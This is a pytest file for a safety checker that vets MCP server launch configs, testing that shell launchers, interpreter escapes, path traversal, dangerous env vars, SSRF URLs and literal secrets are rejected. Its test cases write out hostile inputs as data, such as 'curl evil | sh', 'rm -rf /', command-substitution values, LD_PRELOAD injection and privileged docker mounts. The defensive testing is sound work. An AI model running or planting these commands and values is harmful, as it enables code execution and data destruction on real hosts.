"""Safety checks on MCP configs: only known launchers in their safe forms, no shell, no interpreter behind a
launcher, host paths only inside allowed folders, no literal secrets, bounded sizes."""

import json
import os

import pytest

from agents_app import mcp_config, safety
from agents_app.models import Agent
from mcpagent.errors import ApplicationError
from registry_app.models import LaunchRecipe, McpServer
from tests.agents_app.conftest import SERVERS
from tests.agents_app.test_apis import create_body, error_of

# allowed_python_modules reads the catalogue's launch recipes.
pytestmark = pytest.mark.django_db


def violations(servers: dict) -> list[dict]:
    with pytest.raises(ApplicationError) as caught:
        safety.check_servers(servers)
    assert caught.value.status == 400
    return caught.value.details["violations"]


@pytest.mark.parametrize("entry, field", [
    ({"command": "bash", "args": ["-c", "curl evil | sh"]}, "command"),
    ({"command": "sh", "args": ["-c", "id"]}, "command"),
    ({"command": "rm", "args": ["-rf", "/"]}, "command"),
    ({"command": "npx -y evil", "args": []}, "command"),
    ({"command": "/bin/sh", "args": []}, "command"),
    ({"command": "../../usr/bin/python", "args": ["-m", "x"]}, "command"),
    ({"command": "npx;rm", "args": []}, "command"),
    ({"command": "npx", "args": ["-y", "pkg; rm -rf /"]}, "args[1]"),
    ({"command": "npx", "args": ["-y", "$(curl evil)"]}, "args[1]"),
    ({"command": "npx", "args": ["-y", "pkg", "`id`"]}, "args[2]"),
    ({"command": "npx", "args": ["-y", "pkg", "a | b"]}, "args[2]"),
    ({"command": "npx", "args": ["-y", "pkg", "out > /etc/passwd"]}, "args[2]"),
    ({"command": "npx", "args": ["-y", "pkg", "line\nbreak"]}, "args[2]"),
    ({"command": "npx", "args": ["-c", "rm -rf /"]}, "args[0]"),
    ({"command": "npx", "args": ["-y", "--package=x", "sh"]}, "args[1]"),
    ({"command": "npx", "args": ["-y", "../local/path"]}, "args[1]"),
    ({"command": "npx", "args": ["-y", "git+https://github.com/x/y"]}, "args[1]"),
    ({"command": "uvx", "args": ["--with-editable", ".", "pkg"]}, "args[0]"),
    ({"command": "python", "args": ["-c", "import os; os.system('id')"]}, "args[1]"),
    ({"command": "python", "args": ["-m", "pip", "install", "evil"]}, "args[1]"),
    ({"command": "python", "args": ["-m", "http.server"]}, "args[1]"),
    ({"command": "python", "args": ["/tmp/evil.py"]}, "args"),
    ({"command": "node", "args": ["-e", "require('child_process')"]}, "args[0]"),
    ({"command": "docker", "args": ["run", "-i", "--rm", "--privileged", "img"]}, "args[3]"),
    ({"command": "docker", "args": ["run", "-i", "--rm", "-v", "/:/host", "img"]}, "args[3]"),
    ({"command": "docker", "args": ["run", "-i", "--rm", "--network", "host", "img"]}, "args[3]"),
    ({"command": "docker", "args": ["run", "-i", "img"]}, "args"),
    ({"command": "docker", "args": ["exec", "-i", "c", "sh"]}, "args[0]"),
    ({"command": "docker", "args": ["run", "-i", "--rm", "-e", "TOKEN=abc", "img"]}, "args[4]"),
    ({"command": "npx", "args": ["-y", "pkg"], "env": {"LD_PRELOAD": "/tmp/x.so"}}, "env.LD_PRELOAD"),
    ({"command": "npx", "args": ["-y", "pkg"], "env": {"PATH": "/tmp"}}, "env.PATH"),
    ({"command": "npx", "args": ["-y", "pkg"], "env": {"PYTHONPATH": "/tmp"}}, "env.PYTHONPATH"),
    ({"command": "npx", "args": ["-y", "pkg"], "env": {"NODE_OPTIONS": "--require /tmp/x.js"}}, "env.NODE_OPTIONS"),
    ({"command": "npx", "args": ["-y", "pkg"], "env": {"lower": "x"}}, "env.lower"),
    ({"command": "npx", "args": ["-y", "pkg"], "env": {"A": 1}}, "env.A"),
    ({"command": "npx", "args": "-y pkg"}, "args"),
    ({"url": "http://example.com/mcp"}, "url"),
    ({"url": "ftp://example.com/mcp"}, "url"),
    ({"url": "https://user:pw@example.com/mcp"}, "url"),
    ({"url": "https://169.254.169.254/latest"}, "url"),
    ({"url": "https://10.0.0.5/mcp"}, "url"),
    ({"url": "https://localhost/mcp"}, "url"),
    ({"url": "https://example.com/mcp", "headers": {"X-A": "a\r\nInjected: 1"}}, "headers.X-A"),
    ({"url": "https://example.com/mcp", "headers": {"Host": "internal"}}, "headers.Host"),
    ({"url": "https://example.com/mcp", "command": "npx"}, "url"),
    ({"url": "https://example.com/mcp", "transport": "http", "env": {"A": "b"}}, "command"),
    ({"command": "npx", "args": ["-y", "pkg"], "shell": True}, "shell"),
    ({"command": "npx", "args": ["-y", "pkg"], "transport": "websocket"}, "transport"),
])
def test_unsafe_entries_are_rejected_naming_server_and_field(entry, field, settings):
    settings.AGENT_ALLOW_HTTP_LOOPBACK = False
    found = violations({"srv": entry})
    assert found[0]["server"] == "srv"
    assert found[0]["field"] == field, found
    assert found[0]["problem"]


@pytest.mark.parametrize("entry", [
    {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-github"]},
    {"command": "npx", "args": ["-y", "@scope/pkg@1.2.3", "--flag", "value"]},
    {"command": "uvx", "args": ["mcp-server-time==2026.10.19", "--local-timezone", "UTC"]},
    {"command": "uvx", "args": ["--from", "mcp-server-git", "mcp-server-git", "--repository", "/srv/repo"]},
    {"command": "python", "args": ["-m", "mcp_server_time"]},
    {"command": "python3", "args": ["-m", "mcp_server_git", "--repository", "/srv/repo"]},
    {"command": "docker",
     "args": ["run", "-i", "--rm", "--init", "-e", "GITHUB_TOKEN", "ghcr.io/github/github-mcp-server"]},
    {"command": "npx", "args": ["-y", "pkg"], "env": {"GITHUB_PERSONAL_ACCESS_TOKEN": "ghp_x", "TZ": "UTC"}},
    {"url": "https://api.example.com/mcp", "headers": {"Authorization": "Bearer abc"}},
    {"url": "https://api.example.com/sse", "transport": "sse"},
    {"url": "https://api.example.com/mcp", "type": "streamable-http"},
])
def test_safe_entries_pass_and_are_normalised(entry, settings):
    settings.AGENT_ALLOWED_PATH_DIRS = ["/srv"]
    normalised = safety.check_servers({"srv": entry})["srv"]
    assert normalised["transport"] in ("stdio", "http", "sse")
    if "command" in entry:
        assert normalised["args"] == entry["args"]


def test_every_violation_is_reported_at_once():
    found = violations({
        "good": {"command": "python", "args": ["-m", "mcp_server_time"]},
        "evil": {"command": "bash", "args": ["-c", "id"]},
        "bad env": {"command": "npx", "args": ["-y", "pkg"]},
        "leak": {"command": "npx", "args": ["-y", "pkg"], "env": {"LD_PRELOAD": "x", "PATH": "/tmp"}},
    })
    assert {(v["server"], v["field"]) for v in found} == {
        ("evil", "command"), ("bad env", "name"), ("leak", "env.LD_PRELOAD"), ("leak", "env.PATH"),
    }


def test_http_loopback_only_when_allowed(settings):
    entry = {"srv": {"url": "http://127.0.0.1:8123/mcp"}}
    settings.DEBUG = False
    settings.AGENT_ALLOW_HTTP_LOOPBACK = False
    assert violations(entry)[0]["field"] == "url"
    settings.AGENT_ALLOW_HTTP_LOOPBACK = True
    assert safety.check_servers(entry)["srv"]["url"] == "http://127.0.0.1:8123/mcp"
    # Loopback permission never opens http to other hosts.
    assert violations({"srv": {"url": "http://example.com/mcp"}})[0]["field"] == "url"


def test_allowlist_is_configurable(settings):
    settings.AGENT_ALLOWED_COMMANDS = ["uvx"]
    assert "not an allowed launcher" in violations({"srv": {"command": "npx", "args": ["-y", "pkg"]}})[0]["problem"]
    settings.AGENT_ALLOWED_COMMANDS = ["uvx", "mcp-server-time"]
    assert safety.check_servers({"srv": {"command": "mcp-server-time", "args": []}})


def test_scripts_only_inside_allowed_dirs(settings, tmp_path):
    inside = str(SERVERS / "crashing.py")
    settings.AGENT_ALLOWED_SCRIPT_DIRS = []
    assert violations({"srv": {"command": "python", "args": [inside]}})[0]["field"] == "args"
    settings.AGENT_ALLOWED_SCRIPT_DIRS = [str(SERVERS)]
    assert safety.check_servers({"srv": {"command": "python", "args": [inside]}})
    escape = f"{SERVERS}/../conftest.py"
    assert violations({"srv": {"command": "python", "args": [escape]}})[0]["field"] == "args"


def test_sizes_are_bounded(settings):
    settings.AGENT_MAX_SERVERS = 2
    servers = {f"s{i}": {"command": "python", "args": ["-m", "mcp_server_time"]} for i in range(3)}
    with pytest.raises(ApplicationError) as caught:
        safety.check_servers(servers)
    assert caught.value.details["max"] == 2
    assert violations({"srv": {"command": "npx", "args": ["-y", "pkg", "x" * 5000]}})[0]["field"] == "args[2]"
    assert violations({"srv": {"command": "npx", "args": ["-y", "pkg"] + ["a"] * 100}})[0]["field"] == "args"
    big_env = {f"K{i}": "v" for i in range(100)}
    assert violations({"srv": {"command": "npx", "args": ["-y", "pkg"], "env": big_env}})[0]["field"] == "env"


def test_python_resolves_to_this_interpreter():
    import sys

    assert safety.resolve_command("python") == sys.executable
    assert safety.resolve_command("definitely-not-installed-xyz") is None


# Each is a way to run code of the client's choosing (or to read any file) behind an allowed launcher.
LAUNCHER_ESCAPES = [
    ({"command": "uvx", "args": ["python", "-c", "import os"]}, "args[0]"),
    ({"command": "uvx", "args": ["--from", "somepkg", "python", "-c", "import os"]}, "args[2]"),
    ({"command": "uvx", "args": ["--from", "somepkg", "Python3.12", "-c", "import os"]}, "args[2]"),
    ({"command": "uvx", "args": ["--from", "somepkg", "bash", "-c", "id"]}, "args[2]"),
    ({"command": "uvx", "args": ["--from", "somepkg", "env", "id"]}, "args[2]"),
    ({"command": "uvx", "args": ["--from", "pip==24.0", "pip", "install", "evil"]}, "args[1]"),
    ({"command": "uvx", "args": ["pip3", "install", "evil"]}, "args[0]"),
    ({"command": "uvx", "args": ["uv==0.5.0", "tool", "run", "evil"]}, "args[0]"),
    ({"command": "uvx", "args": ["pipx", "run", "evil"]}, "args[0]"),
    ({"command": "uvx", "args": ["ipython", "-c", "import os"]}, "args[0]"),
    ({"command": "uvx", "args": ["xonsh", "-c", "id"]}, "args[0]"),
    ({"command": "npx", "args": ["-y", "npm", "exec", "-c", "id"]}, "args[1]"),
    ({"command": "npx", "args": ["-y", "npm@10", "exec", "-c", "id"]}, "args[1]"),
    ({"command": "npx", "args": ["-y", "node@20", "-e", "require('child_process')"]}, "args[1]"),
    ({"command": "npx", "args": ["--yes", "yarn", "dlx", "evil"]}, "args[1]"),
    ({"command": "npx", "args": ["-y", "pnpm@9.1.0", "dlx", "evil"]}, "args[1]"),
    ({"command": "npx", "args": ["-y", "corepack", "npm", "exec", "evil"]}, "args[1]"),
    ({"command": "npx", "args": ["-y", "deno", "eval", "1"]}, "args[1]"),
    ({"command": "npx", "args": ["-y", "bun", "-e", "1"]}, "args[1]"),
    ({"command": "npx", "args": ["-y", "tsx", "-e", "1"]}, "args[1]"),
    ({"command": "npx", "args": ["-y", "cross-env", "A=1", "id"]}, "args[1]"),
    ({"command": "python", "args": ["-m", "py_compile", "/etc/passwd"]}, "args[1]"),
    ({"command": "python3", "args": ["-m", "runpy", "x"]}, "args[1]"),
    ({"command": "python", "args": ["-m", "mcp_server_time_but_not_quite"]}, "args[1]"),
    ({"command": "python", "args": ["-m", "mcp_server_git"]}, "args"),
    ({"command": "python", "args": ["-m", "mcp_server_git", "--repository", "relative/repo"]}, "args[2]"),
    ({"command": "uvx", "args": ["mcp-server-git"]}, "args"),
    ({"command": "uvx", "args": ["--from", "mcp-server-git==2025.1.14", "mcp-server-git", "-v"]}, "args"),
    ({"command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem", "/"]}, "args[2]"),
    ({"command": "npx", "args": ["-y", "pkg", "--root=/etc"]}, "args[2]"),
    ({"command": "npx", "args": ["-y", "pkg", "file:///etc/passwd"]}, "args[2]"),
    ({"command": "uvx", "args": ["mcp-server-git", "--repository", "/home"]}, "args[2]"),
]


@pytest.mark.parametrize("entry, field", LAUNCHER_ESCAPES)
def test_launchers_never_run_an_interpreter_or_read_any_path(entry, field):
    found = violations({"srv": entry})
    assert (found[0]["server"], found[0]["field"]) == ("srv", field), found


@pytest.mark.parametrize("entry, field", LAUNCHER_ESCAPES[::3])
def test_launcher_escapes_are_a_400_through_the_api(api, entry, field):
    response = api.post("/api/agents/create", create_body({"evil": entry}), format="json")
    error = error_of(response, 400, "unsafe_mcp_config")
    assert "'evil'" in error["message"]
    assert error["details"]["violations"][0] == {**error["details"]["violations"][0], "server": "evil", "field": field}
    assert not Agent.objects.exists()


def test_the_git_server_as_an_allowed_command_needs_its_repository(settings, tmp_path):
    settings.AGENT_ALLOWED_COMMANDS = [*settings.AGENT_ALLOWED_COMMANDS, "mcp-server-git"]
    settings.AGENT_ALLOWED_PATH_DIRS = [str(tmp_path)]
    assert violations({"srv": {"command": "mcp-server-git", "args": []}})[0]["field"] == "args"
    assert safety.check_servers({"srv": {"command": "mcp-server-git", "args": ["-r", str(tmp_path)]}})
    assert safety.check_servers({"srv": {"command": "mcp-server-git", "args": [f"--repository={tmp_path}"]}})


def test_python_modules_are_an_allowlist(settings):
    entry = {"srv": {"command": "python", "args": ["-m", "my_mcp_server"]}}
    settings.AGENT_ALLOWED_PYTHON_MODULES = []
    assert "not an allowed MCP server" in violations(entry)[0]["problem"]
    settings.AGENT_ALLOWED_PYTHON_MODULES = ["my_mcp_server"]
    assert safety.check_servers(entry)


def test_modules_the_catalogue_runs_with_python_are_allowed_but_never_the_standard_library():
    server = McpServer.objects.create(slug="py-server", name="Py Server")
    LaunchRecipe.objects.create(server=server, kind="other", command="python", args=["-m", "catalogue_mcp", "-v"])
    LaunchRecipe.objects.create(server=server, kind="other", command="python3", args=["-m", "py_compile"])
    assert {"mcp_server_time", "mcp_server_git", "catalogue_mcp"} <= safety.allowed_python_modules()
    assert safety.check_servers({"srv": {"command": "python", "args": ["-m", "catalogue_mcp"]}})
    assert violations({"srv": {"command": "python", "args": ["-m", "py_compile", "x"]}})[0]["field"] == "args[1]"


def test_host_paths_only_inside_allowed_dirs_symlinks_resolved(settings, tmp_path):
    allowed = tmp_path / "allowed"
    (allowed / "data").mkdir(parents=True)
    os.symlink("/etc", allowed / "etc-link")
    settings.AGENT_ALLOWED_PATH_DIRS = [str(allowed)]

    def entry(arg: str) -> dict:
        return {"srv": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem", arg]}}

    assert safety.check_servers(entry(str(allowed / "data")))
    assert safety.check_servers(entry(f"--root={allowed}/data/new-file.txt"))
    for escape in (f"{allowed}/../allowed/data", f"{allowed}/etc-link/passwd", f"--root={allowed}/etc-link", "/etc"):
        found = violations(entry(escape))
        assert found[0]["field"] == "args[2]" and "host path" in found[0]["problem"], escape
    settings.AGENT_ALLOWED_PATH_DIRS = []
    assert violations(entry(str(allowed / "data")))[0]["field"] == "args[2]"


def test_docker_arguments_are_container_paths():
    assert safety.check_servers({"srv": {"command": "docker", "args": [
        "run", "-i", "--rm", "mcp/sqlite", "--db-path", "/mcp/db.sqlite"]}})


def test_path_arguments_lists_the_host_paths_to_bind():
    args = ["-m", "mcp_server_git", "--repository", "/srv/repo/", "--cache=/var/cache/x", "file:///data/a.txt",
            "relative/path", "https://example.com/a/b", "Europe/Berlin", "/srv/repo", "--flag", "/srv/x/../y"]
    assert safety.path_arguments(args) == ["/srv/repo", "/var/cache/x", "/data/a.txt", "/srv/y"]
    assert safety.path_arguments(["/opt/scripts/server.py"]) == ["/opt/scripts/server.py"]


def test_a_credential_argument_naming_a_host_path_is_checked_at_start(settings, tmp_path):
    settings.AGENT_ALLOWED_PATH_DIRS = [str(tmp_path)]
    entry = {"transport": "stdio", "command": "uvx",
             "args": ["mcp-server-git", "--repository", mcp_config.reference("GIT_REPOSITORY")]}
    assert safety.check_servers({"git": {**entry, "args": ["mcp-server-git", "--repository", "{GIT_REPOSITORY}"]}})
    spec = mcp_config.launch_spec(name="git", entry=entry, values={"GIT_REPOSITORY": str(tmp_path)})
    assert spec.args[-1] == str(tmp_path)
    with pytest.raises(ApplicationError) as caught:
        mcp_config.launch_spec(name="git", entry=entry, values={"GIT_REPOSITORY": "/etc"})
    assert (caught.value.status, caught.value.code) == (409, "credential_invalid")
    assert caught.value.details["credential"] == "GIT_REPOSITORY" and "/etc" not in caught.value.message


LITERAL_SECRETS = [
    "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8",
    "github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyz",
    "xoxb-1234567890-0987654321-AbCdEfGhIjKlMnOpQrStUvWx",
    "sk-ant-api03-" + "Zx9" * 12,
    "sk-proj-" + "Q2w3E4r5" * 5,
    "AKIAIOSFODNN7EXAMPLE",
    "sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc",
    "AIzaSyD-1234567890abcdefghijklmnopqrstu",
    "-----BEGIN RSA PRIVATE KEY-----",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    "--token=a1b2c3d4",
    "--api-key=plainvalue",
    "https://api.example.com/v1?key=Xq7Lm2Rt9Vb4Nz6Kp1Wc8Yd3Hg5Jf0Ts",
    "Xq7Lm2Rt9Vb4Nz6Kp1Wc8Yd3Hg5Jf0Ts",
]


@pytest.mark.parametrize("secret", LITERAL_SECRETS)
def test_a_literal_secret_argument_is_refused_without_echoing_it(api, secret):
    response = api.post("/api/agents/create", create_body({"srv": {"command": "npx", "args": ["-y", "pkg", secret]}}),
                        format="json")
    error = error_of(response, 400, "unsafe_mcp_config")
    violation = error["details"]["violations"][0]
    assert (violation["server"], violation["field"]) == ("srv", "args[2]")
    assert "credential" in violation["problem"]
    text = json.dumps(error)
    assert secret not in text and secret.split("=", 1)[-1] not in text


@pytest.mark.parametrize("option", ["--token", "--api-key", "--password", "--github-token", "--client-secret"])
def test_a_secret_option_takes_a_reference_not_a_literal(option):
    found = violations({"srv": {"command": "npx", "args": ["-y", "pkg", option, "hunter2"]}})
    assert found[0]["field"] == "args[3]" and "hunter2" not in found[0]["problem"]
    assert safety.check_servers({"srv": {"command": "npx", "args": ["-y", "pkg", option, "{API_TOKEN}"]}})
    assert safety.check_servers({"srv": {"command": "npx", "args": ["-y", "pkg", f"{option}={{API_TOKEN}}"]}})


@pytest.mark.parametrize("arg", [
    "@modelcontextprotocol/server-everything", "mcp-server-time==2026.10.19", "America/Argentina/Buenos_Aires",
    "UTC", "8080", "3.14159", "--max-tokens", "4096", "--token-file", "--verbose", "https://api.example.com/v1/mcp",
    "ghcr.io/github/github-mcp-server", "Klaviyo-MCP-Server-4-15", "Tisik79/MCP-Facebook",
    "0123456789abcdef0123456789abcdef01234567", "550e8400-e29b-41d4-a716-446655440000",
    "--read-only", "--log-level=DEBUG", "MyCompanyInternalServerName2026", "en_US.UTF-8",
])
def test_ordinary_arguments_are_not_taken_for_secrets(arg):
    assert safety.secret_like(arg) is None
    assert safety.check_servers({"srv": {"command": "npx", "args": ["-y", "pkg", arg]}})
